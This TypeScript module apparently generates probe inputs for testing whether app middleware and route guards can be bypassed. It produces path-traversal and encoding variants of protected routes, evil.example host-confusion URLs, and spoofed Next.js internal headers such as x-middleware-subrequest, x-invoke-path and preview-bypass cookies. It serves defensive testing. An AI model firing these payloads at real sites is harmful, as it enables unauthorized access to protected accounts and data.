/*
 * Spellings and headers that made frameworks forget their guard, or made somebody on the way read a request differently:
 * CVE-2025-29927 (x-middleware-subrequest), CVE-2026-44572 to 44578 (.rsc, segment prefetch, x-nextjs-data, upgrades,
 * absolute-form), React2Shell (Next-Action), Hono's `//` and `%2f`, and the usual normalisation gaps of proxies.
 */

export type HeaderList = readonly (readonly [string, string])[];

/** Where a trick tries to borrow its freedom: outside of the guard or outside of the middleware. */
const FREE_FOLDERS = ['/login', '/_next/static', '/_next/image', '/monitoring', '/api', '/.well-known', '/favicon.ico'];

const upTo = (folder: string, up: string, route: string): string =>
  `${folder}${up.repeat(folder.split('/').length - 1)}${route}`;

/** Request targets that all mean, or might be taken to mean, `route`: `/statement` -> `//statement`, `/login/..%2fstatement`, … */
export const targetsOf = (route: string, host: string): string[] => {
  const bare = route.slice(1);
  const [first = '', ...rest] = bare || 'x';
  const coded = (percent: string) => `/${percent}${first.charCodeAt(0).toString(16)}${rest.join('')}`;
  return [
    route,
    ...['/', '/.', '/..', '..', '.', '%20', '%09', '%00', ';', ';x', ';/login', '%3b', '%23', '%3f', '~', '%'].map(
      end => `${route}${end}`,
    ),
    ...['//', '///', '/./', '/.//', '/%2e/', '/%2f', '/%5c', '/\\', '/x/../', '/login;/../', '/index/'].map(
      start => `${start}${bare}`,
    ),
    ...FREE_FOLDERS.flatMap(folder => [upTo(folder, '/..', route), upTo(folder, '/%2e%2E', route)]),
    ...['%2f..', '/..%2f..', '/..%5c..', '\\..', '/..;', '/.%00./..', '/%252e%252e', '/%c0%ae%c0%ae'].map(
      up => `/login${up}${route}`,
    ),
    coded('%'),
    coded('%25'),
    `/${bare.toUpperCase()}`,
    `/${first.toUpperCase()}${rest.join('')}`,
    ...[
      '.rsc',
      '.txt',
      '.json',
      '.html',
      '.segment.rsc',
      '.segments/_tree.segment.rsc',
      '.segments/_full.segment.rsc',
    ].map(end => `${route === '/' ? '/index' : route}${end}`),
    ...['_rsc=1a2b', 'nxtPpath=login', '__nextDataReq=1', '__nextLocale=../login', 'path=/login', '/../login'].map(
      query => `${route}?${query}`,
    ),
    `${route}#/login`,
    `/_next/data/build${route === '/' ? '/index' : route}.json`,
    `/_next/image?url=${encodeURIComponent(route)}&w=64&q=75`,
    `/_next/image?url=${encodeURIComponent(`http://${host}${route}`)}&w=64&q=75`,
    ...['pt-BR', 'en', 'index', '_next', '__nextjs', '_error'].map(folder => `/${folder}${route}`),
    `http://${host}${route}`,
    `HTTP://evil.example${route}`,
    `https://evil.example:443/login/..${route}`,
    `//evil.example${route}`,
    `//evil.example/%2e%2e${route}`,
    `/\\evil.example${route}`,
    `/%5cevil.example${route}`,
    `/%2f%2fevil.example${route}/`,
    '*',
    'evil.example:443',
    bare || 'x',
    '?',
  ];
};

const set = (...headers: (readonly [string, string])[]): HeaderList => headers;
const MIDDLEWARE = 'middleware:middleware:middleware:middleware:middleware';
const TREE = encodeURIComponent('["",{"children":["(banking)",{"children":["__PAGE__",{}]}]},null,null,true]');

/** Sets of headers that pretend to be the framework, a proxy or another host. `Host` of a set replaces the right one. */
export const HEADER_SETS: Readonly<Record<string, HeaderList>> = {
  plain: set(),
  rsc: set(['RSC', '1']),
  prefetch: set(['RSC', '1'], ['Next-Router-Prefetch', '1'], ['Purpose', 'prefetch'], ['Sec-Purpose', 'prefetch']),
  'segment prefetch': set(['RSC', '1'], ['Next-Router-Prefetch', '2'], ['Next-Router-Segment-Prefetch', '/_tree']),
  'router state': set(['RSC', '1'], ['Next-Router-State-Tree', TREE], ['Next-Url', '/login']),
  subrequest: set(['x-middleware-subrequest', MIDDLEWARE], ['x-middleware-subrequest-id', '1']),
  'subrequest in src': set(['x-middleware-subrequest', MIDDLEWARE.replaceAll('middleware', 'src/middleware')]),
  'pages data': set(['x-nextjs-data', '1'], ['x-middleware-prefetch', '1']),
  'middleware answer': set(
    ['x-middleware-next', '1'],
    ['x-middleware-rewrite', '/login'],
    ['x-middleware-override-headers', 'cookie'],
  ),
  invoke: set(
    ['x-invoke-path', '/login'],
    ['x-invoke-query', '%7B%7D'],
    ['x-invoke-output', '/login'],
    ['x-invoke-status', '200'],
  ),
  'matched path': set(['x-matched-path', '/login'], ['x-now-route-matches', '1=login'], ['x-vercel-id', 'x']),
  'rewritten path': set(['x-original-url', '/login'], ['x-rewrite-url', '/login'], ['x-forwarded-uri', '/login']),
  'other host': set(['Host', 'evil.example']),
  'forwarded host': set(
    ['x-forwarded-host', 'evil.example'],
    ['Forwarded', 'host=evil.example;proto=https'],
    ['x-forwarded-proto', 'https'],
    ['x-forwarded-port', '444'],
  ),
  'odd host': set(['Host', 'evil.example\\@localhost']),
  'other method': set(['x-http-method-override', 'GET'], ['x-http-method', 'GET'], ['x-method-override', 'GET']),
  preview: set(['Cookie', '__prerender_bypass=x; __next_preview_data=y'], ['x-prerender-revalidate', 'x']),
  websocket: set(
    ['Connection', 'Upgrade, close'],
    ['Upgrade', 'websocket'],
    ['Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='],
    ['Sec-WebSocket-Version', '13'],
  ),
  'upgrade to plain HTTP/2': set(
    ['Connection', 'Upgrade, HTTP2-Settings, close'],
    ['Upgrade', 'h2c'],
    ['HTTP2-Settings', 'AAMAAABkAARAAAAAAAIAAAAA'],
  ),
  'action by GET': set(['Next-Action', 'a'.repeat(42)], ['Content-Type', 'text/plain;charset=UTF-8']),
};
